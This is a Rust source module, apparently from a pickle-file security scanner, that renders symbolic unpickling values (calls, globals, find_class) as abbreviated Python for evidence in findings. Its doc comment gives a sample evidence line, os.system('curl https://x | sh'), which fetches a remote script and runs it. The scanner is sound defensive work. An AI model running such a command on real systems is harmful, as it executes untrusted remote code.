//! Python-like rendering of symbolic values, for evidence:
//! `os.system('curl https://x | sh')`.

use super::value::{CallKind, Node, Val};
use std::fmt::Write;

/// Longest rendering kept (characters); longer ones are cut with `…`.
pub const MAX_RENDER: usize = 240;
const MAX_DEPTH: usize = 5;
const MAX_ITEMS: usize = 6;

/// Render `v` as Python source, abbreviated.
pub fn render(v: &Val) -> String {
    let mut out = String::new();
    write_val(&mut out, v, 0);
    crate::finding::abbreviate(&out, MAX_RENDER)
}

/// Render the call `callable(args)` of the given kind.
pub fn render_call(kind: CallKind, callable: &Val, args: &Val, kwargs: Option<&Val>) -> String {
    let mut out = String::new();
    write_call(&mut out, kind, callable, args, kwargs, 0);
    crate::finding::abbreviate(&out, MAX_RENDER)
}

fn full(out: &str) -> bool {
    out.len() > MAX_RENDER * 4
}

fn write_call(
    out: &mut String,
    kind: CallKind,
    callable: &Val,
    args: &Val,
    kwargs: Option<&Val>,
    depth: usize,
) {
    write_val(out, callable, depth + 1);
    if kind == CallKind::New {
        out.push_str(".__new__");
    }
    out.push('(');
    let mut first = true;
    if kind == CallKind::New {
        write_val(out, callable, depth + 1);
        first = false;
    }
    let tuple_items = args.try_borrow().ok().and_then(|n| match &*n {
        Node::Tuple(items) => Some(items.clone()),
        _ => None,
    });
    match tuple_items {
        Some(items) => {
            for (i, item) in items.iter().enumerate() {
                if !first {
                    out.push_str(", ");
                }
                first = false;
                if i >= MAX_ITEMS || full(out) {
                    out.push('…');
                    break;
                }
                write_val(out, item, depth + 1);
            }
        }
        None => {
            if !first {
                out.push_str(", ");
            }
            out.push('*');
            write_val(out, args, depth + 1);
            first = false;
        }
    }
    if let Some(kw) = kwargs {
        if !first {
            out.push_str(", ");
        }
        out.push_str("**");
        write_val(out, kw, depth + 1);
    }
    out.push(')');
}

fn write_items(out: &mut String, items: &[Val], len: u64, depth: usize) {
    for (i, item) in items.iter().enumerate() {
        if i > 0 {
            out.push_str(", ");
        }
        if i >= MAX_ITEMS || full(out) {
            out.push('…');
            return;
        }
        write_val(out, item, depth + 1);
    }
    if (items.len() as u64) < len {
        out.push_str(", …");
    }
}

fn write_val(out: &mut String, v: &Val, depth: usize) {
    if depth > MAX_DEPTH || full(out) {
        out.push('…');
        return;
    }
    let Ok(node) = v.try_borrow() else {
        out.push('…');
        return;
    };
    match &*node {
        Node::None => out.push_str("None"),
        Node::Bool(b) => out.push_str(if *b { "True" } else { "False" }),
        Node::Int(i) => {
            let _ = write!(out, "{i}");
        }
        Node::BigInt(n) => {
            let _ = write!(out, "<int of {n} bytes>");
        }
        Node::Float(f) => {
            let _ = write!(out, "{f:?}");
        }
        Node::Str(s, len) => write_str(out, s, *len),
        Node::Bytes(b, len, mutable) => {
            if *mutable {
                out.push_str("bytearray(");
            }
            write_bytes(out, b, *len);
            if *mutable {
                out.push(')');
            }
        }
        Node::Tuple(items) => {
            out.push('(');
            write_items(out, items, items.len() as u64, depth);
            if items.len() == 1 {
                out.push(',');
            }
            out.push(')');
        }
        Node::List(items, len) => {
            out.push('[');
            write_items(out, items, *len, depth);
            out.push(']');
        }
        Node::Set(items, _, false) if items.is_empty() => out.push_str("set()"),
        Node::Set(items, len, frozen) => {
            out.push_str(if *frozen { "frozenset({" } else { "{" });
            write_items(out, items, *len, depth);
            out.push_str(if *frozen { "})" } else { "}" });
        }
        Node::Dict(pairs, len, _) => {
            out.push('{');
            for (i, (k, val)) in pairs.iter().enumerate() {
                if i > 0 {
                    out.push_str(", ");
                }
                if i >= MAX_ITEMS || full(out) {
                    out.push('…');
                    break;
                }
                write_val(out, k, depth + 1);
                out.push_str(": ");
                write_val(out, val, depth + 1);
            }
            if (pairs.len() as u64) < *len && pairs.len() < MAX_ITEMS {
                out.push_str(", …");
            }
            out.push('}');
        }
        Node::Global(name) => out.push_str(name),
        Node::DynamicGlobal(module, name) => {
            out.push_str("find_class(");
            write_val(out, module, depth + 1);
            out.push_str(", ");
            write_val(out, name, depth + 1);
            out.push(')');
        }
        Node::Call {
            kind: CallKind::Persistent,
            args,
            ..
        } => {
            out.push_str("persistent_load(");
            write_val(out, args, depth + 1);
            out.push(')');
        }
        Node::Call {
            kind,
            callable,
            args,
            kwargs,
            ..
        } => write_call(out, *kind, callable, args, kwargs.as_ref(), depth),
        Node::Buffer => out.push_str("<out-of-band buffer>"),
        Node::Opaque(what) => {
            let _ = write!(out, "<{what}>");
        }
    }
}

fn write_str(out: &mut String, s: &str, len: u64) {
    out.push('\'');
    for c in s.chars().take(MAX_RENDER) {
        match c {
            '\'' => out.push_str("\\'"),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() => {
                let _ = write!(out, "\\x{:02x}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    if s.chars().nth(MAX_RENDER).is_some() || (s.len() as u64) < len {
        out.push('…');
    }
    out.push('\'');
}

fn write_bytes(out: &mut String, b: &[u8], len: u64) {
    out.push_str("b'");
    for &c in b.iter().take(MAX_RENDER) {
        match c {
            b'\'' => out.push_str("\\'"),
            b'\\' => out.push_str("\\\\"),
            0x20..=0x7e => out.push(char::from(c)),
            _ => {
                let _ = write!(out, "\\x{c:02x}");
            }
        }
    }
    if b.len() > MAX_RENDER || (b.len() as u64) < len {
        out.push('…');
    }
    out.push('\'');
}
